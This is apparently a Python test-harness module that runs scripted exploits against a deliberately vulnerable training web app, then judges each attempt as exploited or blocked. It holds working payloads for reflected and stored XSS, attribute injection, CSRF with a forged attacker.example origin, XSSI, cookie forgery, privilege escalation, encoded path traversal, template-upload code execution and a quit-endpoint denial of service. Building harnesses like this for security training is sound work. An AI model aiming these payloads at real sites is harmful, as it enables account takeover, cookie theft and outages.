"""Attack scenarios: one scripted exploit per vulnerability id.

Each scenario drives the target like an attacker would, then judges the
outcome with declarative predicates over the final probe.  Verdicts are
browser-free: script execution is approximated by the detection grammar
or by checking that the exact payload bytes reached an executable
context (raw in markup, raw in a script body, served as text/html).
"""
from __future__ import annotations

import re
import urllib.parse
from dataclasses import dataclass, field
from typing import Callable

from . import modes as M
from .harness import (
    AttackContext,
    MiniResponse,
    StepError,
    TargetDown,
    multipart_body,
)
from .sanitizer import detect
from .session_auth import COOKIE_NAME

VICTIM_USER = "cheddar"
VICTIM_PASSWORD = "brie"
ATTACKER_ORIGIN = "http://attacker.example"


@dataclass
class Probe:
    """What a scenario observed: the final response plus side notes."""

    response: MiniResponse | None
    notes: dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class PredicateResult:
    matched: bool
    evidence: str


class Predicate:
    def check(self, probe: Probe) -> PredicateResult:
        raise NotImplementedError


@dataclass(frozen=True)
class StatusEquals(Predicate):
    status: int

    def check(self, probe: Probe) -> PredicateResult:
        if probe.response is None:
            return PredicateResult(False, "no response")
        got = probe.response.status
        return PredicateResult(got == self.status, f"status {got}")


@dataclass(frozen=True)
class BodyContains(Predicate):
    needle: str

    def check(self, probe: Probe) -> PredicateResult:
        if probe.response is None:
            return PredicateResult(False, "no response")
        if self.needle in probe.response.text:
            return PredicateResult(True, f"body contains {self.needle!r}")
        return PredicateResult(False, f"body lacks {self.needle!r}")


class FileLeaked(BodyContains):
    """Marker text that only exists in a file outside the web root."""


@dataclass(frozen=True)
class BodyStartsWith(Predicate):
    prefix: str

    def check(self, probe: Probe) -> PredicateResult:
        if probe.response is None:
            return PredicateResult(False, "no response")
        head = probe.response.text[: len(self.prefix)]
        return PredicateResult(
            head == self.prefix, f"body starts with {head!r}"
        )


@dataclass(frozen=True)
class HeaderContains(Predicate):
    name: str
    needle: str

    def check(self, probe: Probe) -> PredicateResult:
        if probe.response is None:
            return PredicateResult(False, "no response")
        value = probe.response.header(self.name) or ""
        return PredicateResult(
            self.needle.lower() in value.lower(), f"{self.name}: {value!r}"
        )


@dataclass(frozen=True)
class DetectionHits(Predicate):
    """Live vector found in the response body by the detection grammar."""

    kinds: frozenset[str] | None = None

    def check(self, probe: Probe) -> PredicateResult:
        if probe.response is None:
            return PredicateResult(False, "no response")
        hits = detect(probe.response.text)
        if self.kinds is not None:
            hits = [h for h in hits if h.kind in self.kinds]
        if hits:
            first = hits[0]
            return PredicateResult(True, f"{first.kind}: {first.excerpt!r}")
        return PredicateResult(False, "no detection hits")


@dataclass(frozen=True)
class NoteEquals(Predicate):
    key: str
    value: str

    def check(self, probe: Probe) -> PredicateResult:
        got = probe.notes.get(self.key)
        return PredicateResult(got == self.value, f"{self.key}={got}")


class ProcessExited42(NoteEquals):
    """Supervised server process left with the restart code."""

    def __init__(self) -> None:
        super().__init__("exit_code", "42")


@dataclass(frozen=True)
class Not(Predicate):
    inner: Predicate

    def check(self, probe: Probe) -> PredicateResult:
        result = self.inner.check(probe)
        # The inner evidence already describes the opposite outcome.
        return PredicateResult(not result.matched, result.evidence)


class AllOf(Predicate):
    def __init__(self, *inner: Predicate):
        self.inner = inner

    def check(self, probe: Probe) -> PredicateResult:
        evidence = []
        for predicate in self.inner:
            result = predicate.check(probe)
            if not result.matched:
                return PredicateResult(False, result.evidence)
            evidence.append(result.evidence)
        return PredicateResult(True, "; ".join(evidence))


class AnyOf(Predicate):
    def __init__(self, *inner: Predicate):
        self.inner = inner

    def check(self, probe: Probe) -> PredicateResult:
        seen = []
        for predicate in self.inner:
            result = predicate.check(probe)
            if result.matched:
                return PredicateResult(True, result.evidence)
            seen.append(result.evidence)
        return PredicateResult(False, " / ".join(seen))


@dataclass(frozen=True)
class Scenario:
    vuln_id: str
    title: str
    execute: Callable[[AttackContext], Probe]
    exploited: Predicate
    blocked: Predicate


# --- step helpers -----------------------------------------------------------


def _login(ctx: AttackContext, identity: str, username: str, password: str) -> None:
    response = ctx.client.request(
        "POST", "/login", identity=identity,
        form={"username": username, "password": password},
    )
    if response.status != 303:
        raise StepError(f"login as {username} failed with status {response.status}")


def _csrf_token(ctx: AttackContext, identity: str) -> str:
    response = ctx.client.request("GET", "/", identity=identity)
    match = re.search(r'name="csrf-token" content="([0-9a-f]+)"', response.text)
    if not match:
        raise StepError("home page has no csrf token")
    return match.group(1)


def _must(response: MiniResponse, step: str) -> MiniResponse:
    if response.status not in (200, 303):
        raise StepError(f"{step} failed with status {response.status}")
    return response


# --- scenario scripts ---------------------------------------------------------

REFLECTED_PAYLOAD = "<script>alert(document.cookie)</script>"
STORED_PAYLOAD = "<ScRiPt>alert(document.cookie)</ScRiPt>"
ATTR_PAYLOAD = 'red" onmouseover="alert(document.cookie)'
AJAX_MARKER = "PRIV-x'};window.evil=1;//"
AJAX_MARKER_ESCAPED = "PRIV-x\\u0027};window.evil=1;//"
UPLOAD_XSS_CONTENT = b"<h1>You have been hacked!</h1><script>alert(document.cookie);</script>"
CSRF_MARKER = "CSRF-PLANT-73"
SHADOW_TEMPLATE = b"PWNED-{{_message}}"
FORGED_COOKIE = "00000000|foo|admin|author"
SECRET_MARKER = "TOP-SECRET"
TRAVERSAL_PATH = "/static/..%2fsecret.txt"


def _run_xss_reflected(ctx: AttackContext) -> Probe:
    encoded = urllib.parse.quote(REFLECTED_PAYLOAD, safe="")
    return Probe(ctx.client.request("GET", f"/search?input={encoded}"))


def _run_xss_reflected_ajax(ctx: AttackContext) -> Probe:
    encoded = urllib.parse.quote(REFLECTED_PAYLOAD, safe="")
    return Probe(ctx.client.request("GET", f"/search?ajax=1&input={encoded}"))


def _run_xss_stored(ctx: AttackContext) -> Probe:
    _login(ctx, "victim", VICTIM_USER, VICTIM_PASSWORD)
    token = _csrf_token(ctx, "victim")
    _must(
        ctx.client.request(
            "POST", "/newsnippet", identity="victim",
            form={"body": STORED_PAYLOAD, "csrf_token": token},
        ),
        "posting the snippet",
    )
    return Probe(ctx.client.request("GET", "/", identity="victim"))


def _run_xss_attr(ctx: AttackContext) -> Probe:
    _login(ctx, "victim", VICTIM_USER, VICTIM_PASSWORD)
    token = _csrf_token(ctx, "victim")
    _must(
        ctx.client.request(
            "POST", "/saveprofile", identity="victim",
            form={"color": ATTR_PAYLOAD, "csrf_token": token},
        ),
        "saving the profile color",
    )
    return Probe(ctx.client.request("GET", "/", identity="victim"))


def _run_xss_stored_ajax(ctx: AttackContext) -> Probe:
    _login(ctx, "victim", VICTIM_USER, VICTIM_PASSWORD)
    token = _csrf_token(ctx, "victim")
    _must(
        ctx.client.request(
            "POST", "/saveprofile", identity="victim",
            form={"private_snippet": AJAX_MARKER, "csrf_token": token},
        ),
        "saving the private snippet",
    )
    response = ctx.client.request("GET", "/feed.gtl", identity="victim")
    if response.status != 200:
        # Feed is POST-only here; use the legitimate same-origin flow.
        token = _csrf_token(ctx, "victim")
        response = ctx.client.request(
            "POST", "/feed.gtl", identity="victim",
            form={"csrf_token": token},
            headers={"Origin": ctx.client.origin},
        )
        _must(response, "fetching the feed")
    return Probe(response)


def _run_xss_upload(ctx: AttackContext) -> Probe:
    _login(ctx, "victim", VICTIM_USER, VICTIM_PASSWORD)
    token = _csrf_token(ctx, "victim")
    body, content_type = multipart_body(
        {"csrf_token": token}, "file", "attack.html", UPLOAD_XSS_CONTENT
    )
    upload = ctx.client.request(
        "POST", "/upload", identity="victim",
        headers={"Content-Type": content_type}, body=body,
    )
    probe = Probe(
        ctx.client.request("GET", f"/uploads/{VICTIM_USER}/attack.html"),
        notes={"upload_status": str(upload.status)},
    )
    return probe


def _run_priv_escalation(ctx: AttackContext) -> Probe:
    _login(ctx, "victim", VICTIM_USER, VICTIM_PASSWORD)
    token = _csrf_token(ctx, "victim")
    save = ctx.client.request(
        "POST", "/saveprofile", identity="victim",
        form={"is_admin": "1", "csrf_token": token},
    )
    _must(save, "saving the profile flags")
    return Probe(ctx.client.request("GET", "/admin", identity="victim"))


def _run_cookie_forge(ctx: AttackContext) -> Probe:
    ctx.client.set_cookie("forger", COOKIE_NAME, FORGED_COOKIE)
    return Probe(ctx.client.request("GET", "/admin", identity="forger"))


def _run_csrf(ctx: AttackContext) -> Probe:
    _login(ctx, "victim", VICTIM_USER, VICTIM_PASSWORD)
    post = ctx.client.request(
        "POST", "/newsnippet", identity="victim",
        form={"body": CSRF_MARKER},
        headers={
            "Origin": ATTACKER_ORIGIN,
            "Referer": f"{ATTACKER_ORIGIN}/lure.html",
        },
    )
    home = ctx.client.request("GET", "/")
    return Probe(home, notes={"post_status": str(post.status)})


def _run_xssi_feed(ctx: AttackContext) -> Probe:
    _login(ctx, "victim", VICTIM_USER, VICTIM_PASSWORD)
    response = ctx.client.request(
        "GET", "/feed.gtl", identity="victim",
        headers={"Referer": f"{ATTACKER_ORIGIN}/steal.html"},
    )
    return Probe(response)


def _run_path_traversal(ctx: AttackContext) -> Probe:
    return Probe(ctx.client.request("GET", TRAVERSAL_PATH))


def _run_rce_template(ctx: AttackContext) -> Probe:
    _login(ctx, "victim", VICTIM_USER, VICTIM_PASSWORD)
    token = _csrf_token(ctx, "victim")
    body, content_type = multipart_body(
        {"csrf_token": token}, "file", "error.gtl", SHADOW_TEMPLATE
    )
    upload = ctx.client.request(
        "POST", "/upload", identity="victim",
        headers={"Content-Type": content_type}, body=body,
    )
    response = ctx.client.request("GET", "/rce-canary-missing-page")
    return Probe(response, notes={"upload_status": str(upload.status)})


def _run_info_dump(ctx: AttackContext) -> Probe:
    return Probe(ctx.client.request("GET", "/dump.gtl"))


def _run_dos_quit(ctx: AttackContext) -> Probe:
    notes: dict[str, str] = {}
    try:
        response = ctx.client.request("GET", "/quitserver")
    except TargetDown:
        response = None
    if ctx.supervisor is not None:
        code = ctx.supervisor.wait_exit(timeout=5.0)
        notes["exit_code"] = "running" if code is None else str(code)
        if code is not None:
            ctx.supervisor.relaunch()
    else:
        notes["exit_code"] = "unknown"
        try:
            ctx.client.request("GET", "/")
            notes["followup"] = "up"
        except TargetDown:
            notes["followup"] = "down"
    return Probe(response, notes=notes)


SCENARIOS: list[Scenario] = [
    Scenario(
        vuln_id=M.XSS_UPLOAD,
        title="Uploaded HTML file is served executable",
        execute=_run_xss_upload,
        exploited=AllOf(
            StatusEquals(200),
            HeaderContains("Content-Type", "text/html"),
            DetectionHits(frozenset({"script-tag"})),
        ),
        blocked=AnyOf(
            NoteEquals("upload_status", "400"),
            AllOf(StatusEquals(200), Not(HeaderContains("Content-Type", "text/html"))),
        ),
    ),
    Scenario(
        vuln_id=M.XSS_REFLECTED,
        title="Search page reflects the query unescaped",
        execute=_run_xss_reflected,
        exploited=DetectionHits(frozenset({"script-tag"})),
        blocked=AllOf(StatusEquals(200), Not(DetectionHits())),
    ),
    Scenario(
        vuln_id=M.XSS_REFLECTED_AJAX,
        title="Search fragment endpoint reflects the query unescaped",
        execute=_run_xss_reflected_ajax,
        exploited=DetectionHits(frozenset({"script-tag"})),
        blocked=AllOf(StatusEquals(200), Not(DetectionHits())),
    ),
    Scenario(
        vuln_id=M.XSS_STORED,
        title="Stored snippet keeps a mixed-case script tag",
        execute=_run_xss_stored,
        exploited=BodyContains(STORED_PAYLOAD),
        blocked=AllOf(
            StatusEquals(200),
            BodyContains("&lt;ScRiPt&gt;"),
            Not(BodyContains(STORED_PAYLOAD)),
        ),
    ),
    Scenario(
        vuln_id=M.XSS_ATTR,
        title="Profile color breaks out of its attribute",
        execute=_run_xss_attr,
        exploited=BodyContains('red" onmouseover="alert(document.cookie)'),
        blocked=AllOf(
            StatusEquals(200),
            BodyContains("red&quot; onmouseover&#61;"),
            Not(BodyContains('red" onmouseover=')),
        ),
    ),
    Scenario(
        vuln_id=M.XSS_STORED_AJAX,
        title="Feed payload string splices raw quotes",
        execute=_run_xss_stored_ajax,
        exploited=BodyContains(AJAX_MARKER),
        blocked=AllOf(
            StatusEquals(200),
            BodyContains(AJAX_MARKER_ESCAPED),
            Not(BodyContains(AJAX_MARKER)),
        ),
    ),
    Scenario(
        vuln_id=M.PRIV_ESCALATION,
        title="Profile save honors client-sent admin flag",
        execute=_run_priv_escalation,
        exploited=AllOf(StatusEquals(200), BodyContains("Weakness modes")),
        blocked=StatusEquals(403),
    ),
    Scenario(
        vuln_id=M.COOKIE_FORGE,
        title="Hand-built cookie with bogus checksum grants admin",
        execute=_run_cookie_forge,
        exploited=AllOf(StatusEquals(200), BodyContains("Weakness modes")),
        blocked=StatusEquals(403),
    ),
    Scenario(
        vuln_id=M.CSRF,
        title="Cross-site form post plants a snippet",
        execute=_run_csrf,
        exploited=BodyContains(CSRF_MARKER),
        blocked=AllOf(NoteEquals("post_status", "403"), Not(BodyContains(CSRF_MARKER))),
    ),
    Scenario(
        vuln_id=M.XSSI_FEED,
        title="Feed is fetchable as a cross-site script",
        execute=_run_xssi_feed,
        exploited=AllOf(
            StatusEquals(200),
            BodyStartsWith("_feed("),
            BodyContains("cellar key"),
        ),
        blocked=StatusEquals(403),
    ),
    Scenario(
        vuln_id=M.PATH_TRAVERSAL,
        title="Encoded dot-dot escapes the static root",
        execute=_run_path_traversal,
        exploited=AllOf(StatusEquals(200), FileLeaked(SECRET_MARKER)),
        blocked=StatusEquals(403),
    ),
    Scenario(
        vuln_id=M.RCE_TEMPLATE,
        title="Uploaded template shadows the error page",
        execute=_run_rce_template,
        exploited=BodyContains("PWNED-"),
        blocked=AllOf(StatusEquals(404), Not(BodyContains("PWNED-"))),
    ),
    Scenario(
        vuln_id=M.INFO_DUMP,
        title="Dump page lists plaintext credentials",
        execute=_run_info_dump,
        exploited=AllOf(StatusEquals(200), BodyContains("password=gouda")),
        blocked=StatusEquals(403),
    ),
    Scenario(
        vuln_id=M.DOS_QUIT,
        title="Quit endpoint kills the server process",
        execute=_run_dos_quit,
        exploited=AnyOf(
            ProcessExited42(),
            AllOf(NoteEquals("exit_code", "unknown"), NoteEquals("followup", "down")),
        ),
        blocked=AllOf(
            StatusEquals(403),
            AnyOf(NoteEquals("exit_code", "running"), NoteEquals("followup", "up")),
        ),
    ),
]
